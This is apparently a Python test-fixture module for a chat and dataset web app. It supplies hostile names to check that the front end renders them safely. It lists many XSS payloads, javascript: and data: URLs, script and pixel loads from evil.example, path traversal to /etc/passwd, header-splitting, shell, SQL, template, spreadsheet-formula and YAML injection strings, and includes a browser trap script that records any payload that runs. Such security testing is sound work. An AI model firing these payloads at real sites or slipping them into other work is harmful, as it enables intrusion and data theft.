"""Names that mean harm to a page which shows them."""

from __future__ import annotations

import re
from typing import Any

NAMES = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<style>*{display:none}</style>",
    "'\"><b>bold</b>",
    "javascript:window.hit=1",
    "\u202egnp.exe\u202d \u05e9\u05dc\u05d5\u05dd",
    "Z\u0361\u0361\u0361a\u0334\u0334lgo " * 20,
    "x" * 10_000,
    "w " * 5_000,
    "\u0000\u001b[31m\u2028\u2029",
    "   ",
    "__proto__",
    "constructor",
]

HIT = "window.hit=1"


def texts(lines: str) -> list[str]:
    """What stands in lines, with two spaces in between; HIT is what must not run."""
    return re.split(r"\s\s+|\n", lines.strip().replace("HIT", HIT))


_MARKUP = texts(
    """
<script>HIT</script>  </script><script>HIT</script>  <ScRiPt>HIT</sCrIpT>
<script src=//evil.example/x.js></script>  <scr<script>ipt>HIT</scr</script>ipt>
<svg><script>HIT</script></svg>  <svg/onload=HIT>
<svg><animate onbegin=HIT attributeName=x dur=1s>
<svg><a xlink:href='javascript:HIT'><text>x</text></a></svg>
<svg><foreignObject><iframe onload=HIT></foreignObject></svg>
<svg><use href='data:image/svg+xml,<svg id=x onload=HIT>#x'/></svg>
<math><mtext><img src=x onerror=HIT></mtext></math>
<math href='javascript:HIT'>x</math>
<math><mi//xlink:href='data:x,<script>HIT</script>'>
<iframe srcdoc='<script>parent.HIT</script>'></iframe>
<iframe src='javascript:parent.HIT'></iframe>  <object data='javascript:HIT'></object>
<embed src='javascript:HIT'>
<link rel=stylesheet href='data:text/css,*{display:none}' onload=HIT>
<link rel=preload as=script href=//evil.example/x.js>
<meta http-equiv=refresh content='0;url=javascript:HIT'>  <base href=//evil.example/>
<form action='javascript:HIT'><button>x</button></form>
<button formaction='javascript:HIT'>x</button>  <input autofocus onfocus=HIT>
<select autofocus onfocus=HIT><option>x</select>  <textarea autofocus onfocus=HIT>
<video src=x onerror=HIT></video>  <audio src=x onerror=HIT></audio>
<video><source onerror=HIT></video>  <details open ontoggle=HIT>x</details>
<marquee onstart=HIT>x</marquee>  <body onload=HIT>  <dialog open onclose=HIT>x</dialog>
<p style='animation:x' onanimationstart=HIT>x</p>  <a href='javascript:HIT'>x</a>
<a href='&#106;avascript:HIT'>x</a>
<noscript><p title='</noscript><img src=x onerror=HIT>'>
<template><script>HIT</script></template>
<template shadowrootmode=open><script>HIT</script></template>
<!--><img src=x onerror=HIT>-->  <![CDATA[<script>HIT</script>]]>
<?xml version='1.0'?><x onload=HIT>  </title><script>HIT</script>
</textarea><script>HIT</script>  </style><script>HIT</script>
</bdi></button></td><img src=x onerror=HIT>  <img src=x:x onerror=HIT//
<img src='x'onerror=HIT>  <img srcset=x onerror=HIT>  "><img src=x onerror=HIT>
'><img src=x onerror=HIT>  `><img src=x onerror=HIT>  ' onfocus='HIT' autofocus x='
'-HIT-'  &lt;script&gt;HIT&lt;/script&gt;  &#60;script&#62;HIT&#60;/script&#62;
%3Cscript%3EHIT%3C/script%3E  ＜script＞HIT＜/script＞
+ADw-script+AD4-HIT+ADw-/script+AD4-
<style>@import '//evil.example/x.css';</style>
<style>body{background:url(//evil.example/x)}</style>
<b style='position:fixed;inset:0;z-index:9'>over all</b>  <plaintext>  <xmp>
<x-y contenteditable>x</x-y>  <img src=//evil.example/pixel>
"""
)
_MARKUP += [
    f"<a href='java\tscript:{HIT}'>x</a>",
    f'" onmouseover="{HIT}" x="',
    f'"-{HIT}-"',
    f"\\'-{HIT}//",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
]
_URLS = texts(
    """
javascript:HIT  JaVaScRiPt:HIT  javascript://x%0aHIT  vbscript:HIT
data:text/html,<script>parent.HIT</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==  blob:null/x
//evil.example/x  http://evil.example/?a=<b>  file:///etc/passwd  ../../../../etc/passwd
#/control/faults  ?token=x#token=y  %00%0d%0aSet-Cookie: x=y  %  %E0%A4%A
"""
)
_URLS += [
    f"java\nscript:{HIT}",
    f"\x01javascript:{HIT}",
    "..\\..\\windows",
    "\r\nX-Split: 1",
]
_TEMPLATES = texts(
    """
{{7*7}}  ${7*7}  ${HIT}  #{7*7}  <%= 7*7 %>  {n} of {name}  {what} added.
{{constructor.constructor('HIT')()}}  {% import os %}  %s %d %n  $& $1 $` $'
{0.__class__}  `id`  $(id)  ; id #  | id  ' OR 1=1 --  "; DROP TABLE chats; --  =1+1
=cmd|' /C calc'!A0  @SUM(1+1)  +1  -1  =HYPERLINK("//evil.example")  expression(HIT)
}*{display:none  url(javascript:HIT)  /*  */  //  !!python/object/apply:os.system [id]
&anchor *alias  ---  <<: *x
"""
)
_NAMES = texts(
    """
__proto__  constructor  prototype  toString  hasOwnProperty  valueOf  then  null
undefined  NaN  true  0  -0  1e309  .  ..  content  drawer  live  hit  [object Object]
"""
)
_SIGNS = [
    "\u202egnp.exe\u202d",
    "\u2067\u05e9\u05dc\u05d5\u05dd\u2069",
    "\u2066\u202b" * 40 + "x",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>x</b>",
    "Z\u0361\u0321\u0334\u035c" * 60,
    "\ufdfd" * 60,
    "\U00012031" * 60,
    "\u200b\u200d\ufeff",
    "a\u0000b",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x08\x08\x7f\x85",
    "\u2028x\u2029",
    "\ufffe\uffff",
    "\U000e0041\U000e0042",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U0001f1e8\U0001f1f3" * 60,
    "\u1f600\u0fff\u3164\u115f",
    "\u0130\u0131\ufb03\u1e9e",
    "w" * 5_000,
    "w " * 2_000,
    "\u5feb" * 3_000,
    "\n" * 500 + "x",
    "\t" * 500 + "x",
    "<" * 2_000,
]
PAYLOADS = [*_MARKUP, *_URLS, *_TEMPLATES, *_NAMES, *_SIGNS]
"""Many more, none of them blank: what browsers, shells and templates fall for."""
LONE = '{"datasetId": "\\ud800<b>x</b>\\udfff", "searchText": "\\udc00", "\\ud83d": 1}'
"""JSON with halves of pairs, which no fixture can hold."""

TRAP = """(() => {
    const caught = (top.caught ??= []);
    for (const name of ["alert", "confirm", "prompt", "print"])
        window[name] = () => caught.push(name);
    Object.defineProperty(window, "hit", { set: () => caught.push("hit") });
    addEventListener("securitypolicyviolation",
        ({ violatedDirective }) => caught.push(violatedDirective), true);
    const bad = "script, iframe, link, style, img, object, embed, base, meta, math";
    const leads = /^(href|src|action|formaction|srcdoc|xlink:href)$/;
    const isCode = (value) => /^\\s*(javascript|data|vbscript):/i.test(value);
    const odd = (node) => [...node.attributes].some(({ name, value }) =>
        name.startsWith("on") || (leads.test(name) && isCode(value)));
    const look = (node) => {
        if (node.nodeType !== 1) return;
        const ours = node.title === "The demo front end" || node.matches("h1 img");
        if (!ours && (node.matches(bad) || odd(node))) caught.push(node.outerHTML);
        for (const inner of node.children) look(inner);
    };
    addEventListener("load", () => new MutationObserver((all) => {
        for (const { addedNodes } of all) for (const node of addedNodes) look(node);
    }).observe(document, { childList: true, subtree: true }));
})()"""
"""An initial script of a page: keeps what comes to be that no text may bring about."""

CAUGHT = """() => [...window.caught ?? ["no trap"],
    ...document.documentElement.scrollWidth > innerWidth ? ["too wide"] : []]"""
OPEN_EACH = """async ([selector, panel]) => {
    const rest = (ms) => new Promise((done) => setTimeout(done, ms));
    let opened = 0;
    for (const each of document.querySelectorAll(selector)) {
        each.click();
        for (let left = 2_000; left && !document.querySelector(panel); left--)
            await rest(5);
        if (document.querySelector(panel)) opened++;
        document.querySelector(panel)?.querySelector(".top button")?.click();
    }
    return opened;
}"""
"""Opens one after the other, and closes each again; gives how many there were."""
TYPE_EACH = """async ([selector, texts]) => {
    const input = document.querySelector(selector);
    for (const text of texts) {
        input.value = text;
        input.dispatchEvent(new Event("input", { bubbles: true }));
        await new Promise(requestAnimationFrame);
    }
}"""
"""Puts one text after the other into a field."""


def records(size: int = len(PAYLOADS)) -> dict[str, list[Any]]:
    """A fixture in which everything is named by these, `size` of them in each."""
    ids = [text.strip(".")[:200] or "dots" for text in PAYLOADS]
    named = list(dict(zip(ids, PAYLOADS, strict=True)).items())
    parts = [named[start : start + size] for start in range(0, len(named), size)]
    apps = [
        {"id": f"<i>app</i>{n or ''}", "name": PAYLOADS[n], "chats": _chats(part)}
        for n, part in enumerate(parts)
    ]
    datasets = [
        {
            "id": f"<i>d</i>{n or ''}",
            "name": PAYLOADS[n + 6],
            "collections": _items(part),
        }
        for n, part in enumerate(parts)
    ]
    more = [{"id": each, "name": each} for each in ids[:40]]
    return {"apps": [*apps, *more], "datasets": [*datasets, *more]}


def _chats(named: list[tuple[str, str]]) -> list[dict[str, Any]]:
    return [{"chatId": id_, "title": text, "customTitle": text} for id_, text in named]


def _items(named: list[tuple[str, str]]) -> list[dict[str, Any]]:
    return [
        {"_id": id_, "name": text, "type": text[:300], "tags": [text[:99]]}
        for id_, text in named
    ]
